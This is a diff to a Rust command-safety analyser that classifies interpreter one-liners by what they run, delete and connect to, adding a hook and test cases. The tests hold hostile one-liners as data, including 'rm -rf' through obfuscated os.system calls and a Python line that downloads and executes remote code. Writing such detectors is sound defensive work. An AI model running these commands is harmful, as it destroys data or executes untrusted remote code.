@@ -1,8 +1,8 @@
 //! One-liners of python, perl, ruby, node, php and lua: what they evidently open, delete, run and
 //! connect to, and whether they do anything but compute and print.
 
-use super::harmless;
 use super::token::{Token, find, tokens};
+use super::{harmless, started};
 use crate::policy::know::{Act, Does, Harm, Language, place};
 use crate::policy::word::Word;
 
@@ -17,6 +17,7 @@ pub(super) fn acts(language: Language, word: &Word, text: &[u8], at: usize) -> V
         acts.push(Act::with(Does::Catastrophe(Harm::Flood), word, at));
     }
     if !harmless::computes(language, &tokens) {
+        started::of_tokens(&tokens, at, &mut acts);
         acts.push(opaque);
     }
     acts
@@ -478,6 +479,23 @@ mod tests {
             (Php, "readfile('/etc/x');", "Read /etc/x, code"),
             (Lua, "os.execute('sh')", "RunText sh, code"),
             (Lua, "io.open('/x','rb')", "Read /x, code"),
+            (Ruby, "%x{rm x}", "RunText rm x, code"),
+            (Perl, "exec \"rm\",\"-rf\",\"/x\"", "RunText rm, RunRest , code"),
+            (Python, "__import__('os').system('rm -rf /x')", "RunText rm -rf /x, code"),
+            (Python, "import os; getattr(os,'sys'+'tem')('rm -rf /x')", "RunText rm -rf /x, code"),
+            (Python, "import os; os.execvp('rm',['rm','-rf','/x'])", "RunRest , code"),
+            (Python, "import subprocess as s; s.call('rm x', shell=True)", "RunText rm x, code"),
+            (
+                JavaScript,
+                "require('child_process').spawnSync('rm',['-rf','/x'])",
+                "RunText rm, RunRest , code",
+            ),
+            (
+                Python,
+                "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
+                "Connect h, Catastrophe(ForeignCode) , code",
+            ),
+            (Ruby, "Net::HTTP.get(URI('http://h/x'))", "Connect h, code"),
         ] {
             assert_eq!(told(language, text), expected, "{text}");
         }
